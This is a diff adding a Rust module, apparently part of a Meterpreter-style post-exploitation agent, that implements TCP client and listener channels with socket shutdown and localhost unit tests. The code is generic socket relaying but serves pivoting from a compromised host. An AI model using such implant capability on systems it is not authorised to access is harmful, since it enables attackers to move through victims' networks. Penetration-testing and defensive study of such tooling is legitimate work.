@@ -0,0 +1,430 @@
+use std::io::{self, Write};
+use std::net::{Shutdown, SocketAddr, TcpListener, TcpStream};
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::mpsc::Sender;
+use std::sync::Arc;
+use std::thread;
+use std::time::Duration;
+
+use meterpreter_protocol::packet::{Packet, PacketResult};
+use meterpreter_protocol::tlv::{Add, TlvType};
+
+use crate::channel::{self, Channel, ChannelManager};
+use crate::dispatcher::{optional_value, required_value, CommandHandler, CommandResult};
+use crate::session::Session;
+use crate::stdapi::tlv;
+
+const ACCEPT_POLL_INTERVAL: Duration = Duration::from_millis(50);
+const CONNECT_RETRY_WAIT: Duration = Duration::from_millis(500);
+
+pub const CHANNEL_TYPES: &[(&str, CommandHandler)] = &[
+    ("stdapi_net_tcp_client", tcp_client_open),
+    ("stdapi_net_tcp_server", tcp_server_open),
+];
+
+pub const COMMANDS: &[(&str, CommandHandler)] = &[("stdapi_net_socket_tcp_shutdown", tcp_shutdown)];
+
+struct TcpClientChannel {
+    stream: TcpStream,
+}
+
+impl Channel for TcpClientChannel {
+    fn write(&mut self, data: &[u8]) -> io::Result<usize> {
+        self.stream.write_all(data)?;
+        Ok(data.len())
+    }
+
+    fn shutdown(&mut self, how: Shutdown) -> io::Result<()> {
+        self.stream.shutdown(how)
+    }
+
+    fn close(&mut self) -> io::Result<()> {
+        match self.stream.shutdown(Shutdown::Both) {
+            Err(err) if err.kind() != io::ErrorKind::NotConnected => Err(err),
+            _ => Ok(()),
+        }
+    }
+}
+
+// The listener lives in the accept thread, closing the channel only tells it to stop
+struct TcpServerChannel {
+    closed: Arc<AtomicBool>,
+}
+
+impl Channel for TcpServerChannel {
+    fn write(&mut self, _data: &[u8]) -> io::Result<usize> {
+        Err(io::Error::from(io::ErrorKind::Unsupported))
+    }
+
+    fn close(&mut self) -> io::Result<()> {
+        self.closed.store(true, Ordering::SeqCst);
+        Ok(())
+    }
+}
+
+fn add_addresses(response: &mut Packet, local: SocketAddr, peer: Option<SocketAddr>) {
+    response.add(tlv::StdapiLocalHost, local.ip().to_string());
+    response.add(tlv::StdapiLocalPort, local.port() as u32);
+    if let Some(peer) = peer {
+        response.add(tlv::StdapiPeerHost, peer.ip().to_string());
+        response.add(tlv::StdapiPeerPort, peer.port() as u32);
+    }
+}
+
+// Registers an established connection, the returned half reads what it receives. The
+// forwarder for it is only started once the handler can know about the channel, data
+// arriving for a channel it hasn't heard of would be dropped
+fn open_stream(channels: &ChannelManager, stream: TcpStream) -> io::Result<(u32, TcpStream)> {
+    let reader = stream.try_clone()?;
+    let channel_id = channels.next_id();
+    channels.insert(channel_id, TcpClientChannel { stream });
+    Ok((channel_id, reader))
+}
+
+fn connect(host: &str, port: u16, retries: u32) -> io::Result<TcpStream> {
+    let mut attempt = 1;
+    loop {
+        match TcpStream::connect((host, port)) {
+            Ok(stream) => return Ok(stream),
+            Err(err) if attempt >= retries => return Err(err),
+            Err(_) => {
+                attempt += 1;
+                thread::sleep(CONNECT_RETRY_WAIT);
+            }
+        }
+    }
+}
+
+fn tcp_client_open(
+    request: &Packet,
+    response: &mut Packet,
+    session: &mut Session,
+) -> CommandResult {
+    let host = required_value(request, tlv::StdapiPeerHost)?.clone();
+    let port = *required_value(request, tlv::StdapiPeerPort)?;
+    let retries = optional_value(request, tlv::StdapiConnectRetries)
+        .copied()
+        .unwrap_or(1);
+    let port = u16::try_from(port).map_err(|_| PacketResult::BadArguments)?;
+
+    let stream = connect(&host, port, retries)?;
+    add_addresses(response, stream.local_addr()?, Some(stream.peer_addr()?));
+
+    // what the forwarder sends is held back until this response went out
+    let (channel_id, reader) = open_stream(&session.channels, stream)?;
+    channel::spawn_forwarder(
+        session.channels.clone(),
+        channel_id,
+        reader,
+        session.outbound(),
+    );
+    response.add(TlvType::ChannelId, channel_id);
+    Ok(())
+}
+
+fn tcp_server_open(
+    request: &Packet,
+    response: &mut Packet,
+    session: &mut Session,
+) -> CommandResult {
+    let host = optional_value(request, tlv::StdapiLocalHost)
+        .cloned()
+        .unwrap_or_else(|| String::from("0.0.0.0"));
+    let port = *required_value(request, tlv::StdapiLocalPort)?;
+    let port = u16::try_from(port).map_err(|_| PacketResult::BadArguments)?;
+
+    let listener = TcpListener::bind((&host[..], port))?;
+    // polling lets the accept thread notice the channel being closed
+    listener.set_nonblocking(true)?;
+    add_addresses(response, listener.local_addr()?, None);
+
+    let closed = Arc::new(AtomicBool::new(false));
+    let channel_id = session.channels.next_id();
+    session.channels.insert(
+        channel_id,
+        TcpServerChannel {
+            closed: Arc::clone(&closed),
+        },
+    );
+
+    let channels = session.channels.clone();
+    let outbound = session.outbound();
+    thread::spawn(move || accept_connections(listener, channel_id, closed, channels, outbound));
+
+    response.add(TlvType::ChannelId, channel_id);
+    Ok(())
+}
+
+fn accept_connections(
+    listener: TcpListener,
+    parent_id: u32,
+    closed: Arc<AtomicBool>,
+    channels: ChannelManager,
+    outbound: Sender<Packet>,
+) {
+    while !closed.load(Ordering::SeqCst) {
+        let (stream, peer) = match listener.accept() {
+            Ok(connection) => connection,
+            Err(err) if err.kind() == io::ErrorKind::WouldBlock => {
+                thread::sleep(ACCEPT_POLL_INTERVAL);
+                continue;
+            }
+            Err(_) => break,
+        };
+
+        let local = match stream.set_nonblocking(false).and(stream.local_addr()) {
+            Ok(local) => local,
+            Err(_) => continue,
+        };
+        let (channel_id, reader) = match open_stream(&channels, stream) {
+            Ok(opened) => opened,
+            Err(_) => continue,
+        };
+
+        let mut notification = Packet::new(String::from("tcp_channel_open"));
+        notification.add(TlvType::ChannelId, channel_id);
+        notification.add(TlvType::ChannelParentId, parent_id);
+        add_addresses(&mut notification, local, Some(peer));
+        if outbound.send(notification).is_err() {
+            break;
+        }
+        channel::spawn_forwarder(channels.clone(), channel_id, reader, outbound.clone());
+    }
+}
+
+fn tcp_shutdown(request: &Packet, _response: &mut Packet, session: &mut Session) -> CommandResult {
+    let channel_id = *required_value(request, TlvType::ChannelId)?;
+    let how = match optional_value(request, tlv::StdapiShutdownHow).copied() {
+        Some(0) => Shutdown::Read,
+        Some(1) => Shutdown::Write,
+        Some(2) | None => Shutdown::Both,
+        Some(_) => return Err(PacketResult::BadArguments),
+    };
+
+    let channel = session
+        .channels
+        .get(channel_id)
+        .ok_or(PacketResult::BadArguments)?;
+    channel.lock().unwrap().shutdown(how)?;
+    Ok(())
+}
+
+#[cfg(test)]
+mod test {
+    use std::io::{Read, Write};
+    use std::net::{TcpListener, TcpStream};
+    use std::sync::mpsc::{self, Receiver};
+    use std::thread;
+    use std::time::Duration;
+
+    use meterpreter_protocol::packet::{Packet, PacketResult};
+    use meterpreter_protocol::tlv::{Add, TlvKey, TlvType};
+
+    use crate::channel;
+    use crate::dispatcher::{required_value, Dispatcher};
+    use crate::session::Session;
+    use crate::stdapi::tlv;
+    use crate::stdapi::Stdapi;
+
+    fn setup() -> (Dispatcher, Session, Receiver<Packet>) {
+        let mut dispatcher = Dispatcher::new();
+        channel::register(&mut dispatcher);
+        dispatcher.add_extension(Box::new(Stdapi));
+        dispatcher.load_extension("stdapi").unwrap();
+        let (sender, receiver) = mpsc::channel();
+        (dispatcher, Session::new(sender), receiver)
+    }
+
+    // Echoes every connection back until the peer shuts down its side
+    fn echo_server() -> u16 {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        thread::spawn(move || {
+            for stream in listener.incoming() {
+                let mut stream = stream.unwrap();
+                thread::spawn(move || {
+                    let mut buffer = [0; 1024];
+                    loop {
+                        match stream.read(&mut buffer) {
+                            Ok(0) | Err(_) => break,
+                            Ok(count) => stream.write_all(&buffer[..count]).unwrap(),
+                        }
+                    }
+                });
+            }
+        });
+        port
+    }
+
+    fn uint(packet: &Packet, key: TlvKey<u32>) -> u32 {
+        *required_value(packet, key).unwrap()
+    }
+
+    fn receive(receiver: &Receiver<Packet>) -> Packet {
+        receiver.recv_timeout(Duration::from_secs(5)).unwrap()
+    }
+
+    fn channel_write(
+        dispatcher: &mut Dispatcher,
+        session: &mut Session,
+        channel_id: u32,
+        data: &[u8],
+    ) {
+        let mut request = Packet::new(String::from("core_channel_write"));
+        request.add(TlvType::ChannelId, channel_id);
+        request.add(TlvType::ChannelData, data.to_vec());
+        let response = dispatcher.dispatch(&request, session);
+        assert_eq!(response.get_result(), Ok(PacketResult::Success));
+    }
+
+    #[test]
+    fn test_tcp_client() {
+        let (mut dispatcher, mut session, receiver) = setup();
+        let port = echo_server();
+
+        let mut request = Packet::new(String::from("core_channel_open"));
+        request.add(TlvType::ChannelType, String::from("stdapi_net_tcp_client"));
+        request.add(tlv::StdapiPeerHost, String::from("127.0.0.1"));
+        request.add(tlv::StdapiPeerPort, port as u32);
+        request.add(tlv::StdapiConnectRetries, 3);
+        let response = dispatcher.dispatch(&request, &mut session);
+        assert_eq!(response.get_result(), Ok(PacketResult::Success));
+        assert_eq!(uint(&response, tlv::StdapiPeerPort), port as u32);
+        let channel_id = uint(&response, TlvType::ChannelId);
+
+        channel_write(&mut dispatcher, &mut session, channel_id, b"ping");
+        let echoed = receive(&receiver);
+        assert_eq!(echoed.get_method(), "core_channel_write");
+        assert_eq!(uint(&echoed, TlvType::ChannelId), channel_id);
+        assert_eq!(
+            required_value(&echoed, TlvType::ChannelData).unwrap(),
+            b"ping"
+        );
+
+        // once our write side is shut the echo server hangs up, which closes the channel
+        let mut shutdown = Packet::new(String::from("stdapi_net_socket_tcp_shutdown"));
+        shutdown.add(TlvType::ChannelId, channel_id);
+        shutdown.add(tlv::StdapiShutdownHow, 1);
+        assert_eq!(
+            dispatcher.dispatch(&shutdown, &mut session).get_result(),
+            Ok(PacketResult::Success)
+        );
+
+        let closed = receive(&receiver);
+        assert_eq!(closed.get_method(), "core_channel_close");
+        assert_eq!(uint(&closed, TlvType::ChannelId), channel_id);
+        assert!(!session.channels.contains(channel_id));
+    }
+
+    #[test]
+    fn test_tcp_client_connection_refused() {
+        let (mut dispatcher, mut session, _receiver) = setup();
+        // grab a free port and release it so nothing listens there
+        let port = TcpListener::bind("127.0.0.1:0")
+            .unwrap()
+            .local_addr()
+            .unwrap()
+            .port();
+
+        let mut request = Packet::new(String::from("core_channel_open"));
+        request.add(TlvType::ChannelType, String::from("stdapi_net_tcp_client"));
+        request.add(tlv::StdapiPeerHost, String::from("127.0.0.1"));
+        request.add(tlv::StdapiPeerPort, port as u32);
+        let response = dispatcher.dispatch(&request, &mut session);
+        assert_eq!(response.get_result(), Ok(PacketResult::ConnectionRefused));
+    }
+
+    #[test]
+    fn test_tcp_server() {
+        let (mut dispatcher, mut session, receiver) = setup();
+
+        let mut request = Packet::new(String::from("core_channel_open"));
+        request.add(TlvType::ChannelType, String::from("stdapi_net_tcp_server"));
+        request.add(tlv::StdapiLocalHost, String::from("127.0.0.1"));
+        request.add(tlv::StdapiLocalPort, 0);
+        let response = dispatcher.dispatch(&request, &mut session);
+        assert_eq!(response.get_result(), Ok(PacketResult::Success));
+        let server_id = uint(&response, TlvType::ChannelId);
+        let port = uint(&response, tlv::StdapiLocalPort) as u16;
+
+        let mut client = TcpStream::connect(("127.0.0.1", port)).unwrap();
+        let opened = receive(&receiver);
+        assert_eq!(opened.get_method(), "tcp_channel_open");
+        assert_eq!(uint(&opened, TlvType::ChannelParentId), server_id);
+        assert_eq!(uint(&opened, tlv::StdapiLocalPort), port as u32);
+        assert_eq!(
+            uint(&opened, tlv::StdapiPeerPort),
+            client.local_addr().unwrap().port() as u32
+        );
+        let child_id = uint(&opened, TlvType::ChannelId);
+        assert_ne!(child_id, server_id);
+
+        client.write_all(b"hello").unwrap();
+        let data = receive(&receiver);
+        assert_eq!(data.get_method(), "core_channel_write");
+        assert_eq!(uint(&data, TlvType::ChannelId), child_id);
+        assert_eq!(
+            required_value(&data, TlvType::ChannelData).unwrap(),
+            b"hello"
+        );
+
+        channel_write(&mut dispatcher, &mut session, child_id, b"world");
+        let mut buffer = [0; 5];
+        client.read_exact(&mut buffer).unwrap();
+        assert_eq!(&buffer, b"world");
+
+        drop(client);
+        let closed = receive(&receiver);
+        assert_eq!(closed.get_method(), "core_channel_close");
+        assert_eq!(uint(&closed, TlvType::ChannelId), child_id);
+
+        let mut close = Packet::new(String::from("core_channel_close"));
+        close.add(TlvType::ChannelId, server_id);
+        assert_eq!(
+            dispatcher.dispatch(&close, &mut session).get_result(),
+            Ok(PacketResult::Success)
+        );
+    }
+
+    #[test]
+    fn test_tcp_server_peer_writes_first() {
+        let (mut dispatcher, mut session, receiver) = setup();
+
+        let mut request = Packet::new(String::from("core_channel_open"));
+        request.add(TlvType::ChannelType, String::from("stdapi_net_tcp_server"));
+        request.add(tlv::StdapiLocalHost, String::from("127.0.0.1"));
+        request.add(tlv::StdapiLocalPort, 0);
+        let response = dispatcher.dispatch(&request, &mut session);
+        let port = uint(&response, tlv::StdapiLocalPort) as u16;
+
+        // the data is there before the connection is even accepted
+        for _ in 0..20 {
+            let mut client = TcpStream::connect(("127.0.0.1", port)).unwrap();
+            client.write_all(b"banner").unwrap();
+            drop(client);
+
+            let opened = receive(&receiver);
+            assert_eq!(opened.get_method(), "tcp_channel_open");
+            let child_id = uint(&opened, TlvType::ChannelId);
+            let data = receive(&receiver);
+            assert_eq!(data.get_method(), "core_channel_write");
+            assert_eq!(uint(&data, TlvType::ChannelId), child_id);
+            assert_eq!(
+                required_value(&data, TlvType::ChannelData).unwrap(),
+                b"banner"
+            );
+            assert_eq!(receive(&receiver).get_method(), "core_channel_close");
+        }
+    }
+
+    #[test]
+    fn test_shutdown_unknown_channel() {
+        let (mut dispatcher, mut session, _receiver) = setup();
+        let mut shutdown = Packet::new(String::from("stdapi_net_socket_tcp_shutdown"));
+        shutdown.add(TlvType::ChannelId, 99);
+        assert_eq!(
+            dispatcher.dispatch(&shutdown, &mut session).get_result(),
+            Ok(PacketResult::BadArguments)
+        );
+    }
+}